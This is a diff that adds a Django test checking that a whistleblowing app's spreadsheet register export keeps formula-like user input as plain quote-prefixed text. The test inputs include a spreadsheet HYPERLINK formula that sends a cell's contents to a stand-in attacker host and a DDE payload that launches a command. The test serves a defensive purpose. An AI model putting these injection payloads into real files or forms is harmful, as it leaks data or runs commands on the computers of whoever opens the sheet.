@@ -3,9 +3,12 @@ asked for, and only where the user holds the key), the recap, and the two manage
 for scheduled use."""
 
 import datetime
+import io
+import zipfile
 
 import pytest
 from django.core.management import CommandError, call_command
+from openpyxl import load_workbook
 
 from wbs.audit.models import AuditEvent
 from wbs.cases.models import Status
@@ -105,6 +108,27 @@ def test_register_with_control_characters_in_the_text_still_exports(staff, as_st
     fx.submit(title="Judul\x00dengan\x01kendali", description=fx.DESCRIPTION)
     sheets = _register(as_staff("verifikator"), include_text="on")
     assert _column(sheets, "Judul") == ["Juduldengankendali"]
+
+
+def test_register_text_that_looks_like_a_formula_stays_text(staff, as_staff):
+    """A reporter (outsider) types a formula as the title: opened in a spreadsheet program by
+    the Tim WBS, it must not run (no <f> element; a text cell, quote-prefixed)."""
+    title = '=HYPERLINK("http://penyerang.example/?d="&B3,"Klik di sini")'
+    fx.submit(title=title, description="@SUM(1+1)*cmd|' /C calc'!A0")
+    response = as_staff("verifikator").post(REGISTER, {"include_text": "on"})
+    with zipfile.ZipFile(io.BytesIO(response.content)) as xlsx:
+        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    ws = load_workbook(io.BytesIO(response.content))["Register"]
+    header = [c.value for c in ws[2]]
+    row = ws[3]
+    cell = row[header.index("Judul")]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)
+    cell = row[header.index("Uraian")]
+    assert (cell.data_type, cell.quotePrefix) == ("s", True)
+    # Ordinary text is not marked.
+    number = row[header.index("Nomor Registrasi")]
+    assert (number.data_type, number.quotePrefix) == ("s", False)
 
 
 def test_register_text_only_where_the_user_holds_the_key(staff, as_staff):
